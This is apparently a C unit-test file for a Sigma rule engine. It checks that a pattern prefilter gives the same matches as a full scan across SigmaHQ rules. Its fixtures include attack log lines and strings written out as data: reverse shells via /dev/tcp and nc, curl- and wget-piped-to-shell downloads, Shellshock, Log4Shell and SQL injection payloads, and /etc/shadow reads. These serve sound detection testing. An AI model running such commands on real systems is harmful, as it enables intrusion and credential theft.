}

/* Fields a parser cut from the message are searched in the message when the
 * route searches it, else on their own: both ways the rule is found. */
static void test_prefilter_fields_in_message(void **state)
{
    static const char url_only[] = "title: u\nlogsource: {category: webserver}\ndetection:\n  s:\n"
                                   "    url.original|contains: '/evil'\n  condition: s\n";
    static const char with_kw[] = "---\ntitle: k\nlogsource: {category: webserver}\ndetection:\n"
                                  "  k:\n    - 'zzzq'\n  condition: k\n";
    const char *line = "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /a/evil?x=1 HTTP/1.1\" 200 12 \"-\" \"curl/8\"";
    char both[512];
    (void)state;
    snprintf(both, sizeof both, "%s%s", url_only, with_kw);
    for (int engine = 0; engine < 2; engine++) {
        const char *yaml[] = {url_only, both};
        if (engine == 1) {
            setenv("CS_PREFILTER", "ac", 1);
        }
        for (int k = 0; k < 2; k++) {
            cs_ruleset *rs = load_ok(yaml[k]);
            cs_event *ev = parse_line(CS_LOGFMT_ACCESS, line);
            assert_int_equal(pf_same(rs, ev), 1);
            cs_event_free(ev);
            cs_ruleset_free(rs);
        }
    }
    unsetenv("CS_PREFILTER");
}

static void test_prefilter_unit_ac(void **state)
{
    setenv("CS_PREFILTER", "ac", 1);
    test_prefilter_unit(state);
    unsetenv("CS_PREFILTER");
}

/* The prefilter never changes a result: every loadable SigmaHQ rule, real
 * log lines and random events, matched with the prefilter on and off. */
static void prefilter_sigmahq_equivalence(void)
{
    static const char *const dirs[] = {"rules/linux", "rules/web", "rules/network", "rules-threat-hunting/linux",
                                       "rules-threat-hunting/web", "rules-threat-hunting/network",
                                       "rules-emerging-threats"};
    static const struct {
        cs_log_format fmt;
        const char *line;
    } lines[] = {
        {CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: Failed password for invalid user admin from "
                           "203.0.113.5 port 2222 ssh2"},
        {CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: Accepted publickey for bob from 10.0.0.2 port 22 ssh2"},
        {CS_LOGFMT_SYSLOG, "<38>Mar  3 10:00:00 host sshd[12]: error: buffer_get_ret: trying to get more bytes 1907 "
                           "than in buffer 308 [preauth]"},
        {CS_LOGFMT_SYSLOG, "<85>Mar  3 10:00:00 host sudo:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; "
                           "COMMAND=/bin/bash -c 'chmod +x /tmp/x; /tmp/x'"},
        {CS_LOGFMT_SYSLOG, "<85>Mar  3 10:00:00 host sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; "
                           "USER=#-1 ; COMMAND=/usr/bin/id"},
        {CS_LOGFMT_SYSLOG, "<78>Mar  3 10:00:00 host CRON[99]: (root) CMD (wget -q -O- http://x.example/a.sh | sh)"},
        {CS_LOGFMT_SYSLOG, "<4>Mar  3 10:00:00 host kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=10.0.0.1 "
                           "PROTO=TCP SPT=4444 DPT=445"},
        {CS_LOGFMT_SYSLOG, "<13>Mar  3 10:00:00 host app: segfault at 0 ip 00007f sp 0 error 4 in libc.so; "
                           "entered promiscuous mode"},
        {CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /index.php?id=1%27%20union%20select"
                           "%20password%20from%20users-- HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.7\""},
        {CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /../../../../etc/passwd HTTP/1.1\" "
                           "400 12 \"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine)\""},
        {CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\" "
                           "200 12 \"-\" \"() { :; }; /bin/bash -c 'cat /etc/shadow'\""},
        {CS_LOGFMT_ACCESS, "203.0.113.5 - - [03/Mar/2024:10:00:00 +0000] \"GET /${jndi:ldap://x.example/a} "
                           "HTTP/1.1\" 404 12 \"${jndi:ldap://x}\" \"curl/8\""},
        {CS_LOGFMT_ACCESS, "10.0.0.7 - alice [03/Mar/2024:10:00:00 +0000] \"GET /static/app.js HTTP/1.1\" 200 512 "
                           "\"https://portal.example/\" \"Mozilla/5.0 (X11; Linux x86_64)\""},
        {CS_LOGFMT_NGINX_ERROR, "2024/03/03 10:00:00 [error] 12#12: *1 open() \"/var/www/.env\" failed, client: "
                                "203.0.113.5"},
        {CS_LOGFMT_AUDITD, "type=EXECVE msg=audit(1700000000.000:1): argc=3 a0=\"chmod\" a1=\"777\" a2=\"/tmp/x\""},
        {CS_LOGFMT_AUDITD, "type=SYSCALL msg=audit(1700000000.000:2): arch=c000003e syscall=59 success=yes exit=0 "
                           "comm=\"nc\" exe=\"/usr/bin/nc\" key=\"susp_activity\""},
    };
    static const char *const strs[] = {
        "/usr/bin/curl", "curl -fsSL http://203.0.113.5/x | bash", "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "base64 -d", "/tmp/.x/kworker", "nc -e /bin/sh 10.0.0.1 4444", "chmod 777 /etc/shadow", "crontab -l",
        "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "iptables -F", "history -c", "/etc/ld.so.preload",
        "union select", "/wp-admin/admin-ajax.php", "../../etc/passwd", "cmd.exe /c whoami", "powershell -enc",
        "masscan/1.3", "Go-http-client/1.1", "x.onion", "dnscat", "tunnel.example.com", "TXT", "GET", "POST",
        "CONNECT", "200", "404", "true", "sudo", "root", "www-data", "/var/www/html/shell.php", "", "a",
    };
    static const char *const names[] = {
        "CommandLine", "Image", "ParentImage", "User", "TargetFilename", "cs-uri-query", "cs-uri-stem", "cs-method",
        "cs-user-agent", "c-uri", "c-useragent", "cs-host", "query", "answer", "record_type", "message", "sc-status",
        "exe", "comm", "type", "a0", "a1", "DestinationHostname", "uri", "user_agent", "cs-referer",
        "event.original", "url.original", "user_agent.original", "process.command_line", "dns.question.name",
    };
    const char *base = getenv("CS_SHARED_DATA");
    char path[1024];
    struct stat sb;
    cs_ruleset *rs = NULL;
    hq h = {0};
    size_t events = 0, matches = 0;
    unsigned rnd = 12345;
    if (base == NULL || base[0] == '\0') {
        base = "/work/shared/data";
    }
    snprintf(path, sizeof path, "%s/sigma/rules/linux", base);
    if (stat(path, &sb) != 0) {
        printf("SigmaHQ rules not found under %s (set CS_SHARED_DATA): skipped\n", path);
        skip();
    }
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        snprintf(path, sizeof path, "%s/sigma/%s", base, dirs[i]);
        if (stat(path, &sb) == 0) {
            (void)cs_ruleset_load_path(rs, path, hq_err, &h);
        }
    }
    printf("prefilter: %zu rules, %zu with witnesses\n", cs_ruleset_count(rs), cs_ruleset_prefiltered(rs));
    assert_true(cs_ruleset_count(rs) > 300);
    assert_true(cs_ruleset_prefiltered(rs) * 10 >= cs_ruleset_count(rs) * 8);
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        cs_event *ev = parse_line(lines[i].fmt, lines[i].line);
        matches += pf_same(rs, ev);
        events++;
        cs_event_free(ev);
    }
    for (int i = 0; i < 3000; i++) {
        cs_event *ev = cs_event_new(i % 3 == 0 ? CS_KIND_FLOW : CS_KIND_LOG, 0);
        int nf = 1 + i % 5;
        assert_non_null(ev);
        for (int k = 0; k < nf; k++) {
            char v[256];
            rnd = rnd * 1103515245u + 12345u;
            snprintf(v, sizeof v, "%s%s%s", (rnd >> 8) % 3 == 0 ? "x " : "", strs[(rnd >> 12) % (sizeof strs / sizeof strs[0])],
                     (rnd >> 20) % 4 == 0 ? strs[(rnd >> 4) % (sizeof strs / sizeof strs[0])] : "");
            assert_int_equal(cs_event_add_cstr(&ev, fid(names[(rnd >> 16) % (sizeof names / sizeof names[0])]), v),
                             CS_OK);
        }
        if (i % 7 == 1) {
            assert_int_equal(cs_event_add_cstr(&ev, CS_F_CS_LOGSOURCE_PRODUCT, "linux"), CS_OK);
        } else if (i % 7 == 2) {
            assert_int_equal(cs_event_add_cstr(&ev, CS_F_CS_LOGSOURCE_CATEGORY, "webserver"), CS_OK);
        }
        matches += pf_same(rs, ev);
        events++;
        cs_event_free(ev);
    }
    printf("prefilter: %zu events, %zu matches, identical with and without\n", events, matches);
    assert_true(matches > 50);
    free(h.log);
    cs_ruleset_free(rs);
}

/* with the default engine (Hyperscan when built in) */
static void test_prefilter_sigmahq_equivalence(void **state)
{
    (void)state;
    unsetenv("CS_PREFILTER");
    prefilter_sigmahq_equivalence();
}

/* with the built-in Aho-Corasick automaton, the engine without Hyperscan */
static void test_prefilter_sigmahq_equivalence_ac(void **state)
{
    (void)state;
    setenv("CS_PREFILTER", "ac", 1);
    prefilter_sigmahq_equivalence();
    unsetenv("CS_PREFILTER");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_exact_case_folding),
        cmocka_unit_test(test_wildcards),
        cmocka_unit_test(test_escapes),
        cmocka_unit_test(test_string_modifiers),
        cmocka_unit_test(test_all_modifier),
        cmocka_unit_test(test_keywords),
        cmocka_unit_test(test_null_and_empty),
        cmocka_unit_test(test_numbers_and_bools),
        cmocka_unit_test(test_ip_fields),
        cmocka_unit_test(test_regex),
        cmocka_unit_test(test_cidr),
        cmocka_unit_test(test_exists),
        cmocka_unit_test(test_field_lists),
        cmocka_unit_test(test_field_names),
        cmocka_unit_test(test_list_of_maps),
        cmocka_unit_test(test_condition_precedence),
        cmocka_unit_test(test_condition_x_of),
        cmocka_unit_test(test_metadata_and_multidoc),
        cmocka_unit_test(test_match_callback_order),
        cmocka_unit_test(test_logsource_routing),
        cmocka_unit_test(test_logsource_bundled_rules),
        cmocka_unit_test(test_field_mappings),
        cmocka_unit_test(test_shipped_mappings),
        cmocka_unit_test(test_neq),
        cmocka_unit_test(test_windash),
        cmocka_unit_test(test_base64),
        cmocka_unit_test(test_utf16),
        cmocka_unit_test(test_numeric_compare),
        cmocka_unit_test(test_fieldref),
        cmocka_unit_test(test_expand),
        cmocka_unit_test(test_time_parts),
        cmocka_unit_test(test_new_modifier_refusals),
        cmocka_unit_test(test_refusals),
        cmocka_unit_test(test_refusal_keeps_good_rules),
        cmocka_unit_test(test_long_chain),
        cmocka_unit_test(test_load_path),
        cmocka_unit_test(test_concurrent_match),
        cmocka_unit_test(test_sigmahq_subset),
        cmocka_unit_test(test_sigmahq_windows),
        cmocka_unit_test(test_prefilter_unit),
        cmocka_unit_test(test_prefilter_unit_ac),
        cmocka_unit_test(test_prefilter_fields_in_message),
        cmocka_unit_test(test_meta_filters),
        cmocka_unit_test(test_meta_filter_spec_examples),
        cmocka_unit_test(test_prefilter_sigmahq_equivalence),
        cmocka_unit_test(test_prefilter_sigmahq_equivalence_ac),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
